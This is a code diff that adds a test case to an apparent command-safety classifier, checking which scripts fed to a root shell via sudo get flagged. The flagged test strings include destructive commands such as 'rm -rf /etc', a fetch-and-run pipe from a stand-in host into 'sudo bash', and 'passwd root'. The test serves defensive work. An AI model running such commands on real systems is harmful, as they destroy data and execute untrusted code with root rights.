@@ -457,4 +457,31 @@ describe('programs are known by what they run, delete, show and send', () => {
       ],
     );
   });
+
+  it('reads what a shell with more rights is fed with, where all of it is stated', () => {
+    expectTold(
+      [
+        'sudo bash <<EOF\nrm -rf /etc\nEOF',
+        'sudo bash <<EOF\ncurl https://x.example | sh\nEOF',
+        'sudo bash <<EOF\n$CMD\nEOF',
+        'sudo bash <<EOF\n$(cat x)\nEOF',
+        'sudo bash',
+        'sudo bash <<< "rm -rf /usr"',
+        'cat x.sh | sudo bash',
+        'curl -s https://x.example | sudo bash',
+        '{ echo ls; cat x.sh; } | sudo bash',
+        'sudo -i <<EOF\nls\nEOF',
+        'sudo su <<EOF\nls\nEOF',
+        'sudo sh <<EOF\npasswd root\nEOF',
+        'sudo bash < x.sh',
+      ],
+      [
+        'sudo bash <<EOF\napt-get update\nEOF',
+        "sudo bash <<'EOF'\napt-get update\napt-get install -y jq\nEOF",
+        'sudo sh <<< "apt-get update"',
+        'echo "apt-get update" | sudo bash',
+        "sudo bash -c 'apt-get update'",
+      ],
+    );
+  });
 });
